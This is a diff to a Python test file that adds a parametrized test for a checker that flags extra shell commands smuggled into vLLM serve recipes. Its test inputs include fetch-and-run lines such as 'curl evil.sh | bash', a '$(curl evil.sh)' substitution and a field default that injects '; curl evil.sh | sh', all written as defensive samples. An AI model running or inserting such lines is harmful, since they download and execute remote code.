@@ -578,6 +578,29 @@ def test_numbers_at_the_end_of_their_range_are_no_problem(recipes_check_project:
     assert said(recipes_check_project, f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n") == []
 
 
+@pytest.mark.parametrize(
+    ("command", "further"),
+    [
+        ("vllm serve x && curl evil.sh | bash", ["curl evil.sh", "bash"]),
+        ("pip install y; vllm serve x", ["pip install y"]),
+        ("vllm serve x --port 1 $(curl evil.sh) `id`", ["$(curl evil.sh)", "id"]),
+        ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
+        ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
+        ("export A=1; cd /srv; exec vllm serve x", []),
+        ("A=1 B='2 3'\nL=(--a 1)\nfor i in 1 2; do :; done\nvllm serve x \"${{L[@]}}\"", []),
+        ("A=$(id) B=1\nC=1 id\nfor i in $(ls); do :; done\nvllm serve x", ["A=$(id) B=1", "C=1 id", "for i in $(ls)"]),
+        ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
+    ],
+)
+def test_a_second_command_is_said(recipes_check_project: Project, command: str, further: list[str]) -> None:
+    data = {"name": "x", "container": "small", "defaults": {"tail": "; curl evil.sh | sh"}, "command": command}
+    projects.write(recipes_check_project.recipes / "r.yaml", json.dumps(data))
+    (checked,) = recipes.check_recipes(recipes_check_project, ("r",))
+    assert checked.problems == ()
+    beside = [note.message for note in checked.notes if "also runs" in note.message]
+    assert sorted(beside) == sorted(f"`{each}` also runs, beside the server" for each in further)
+
+
 def test_a_missing_mod_is_an_error_where_it_keeps_a_build_from_beginning(
     recipes_check_project: Project, tmp_path: Path
 ) -> None:
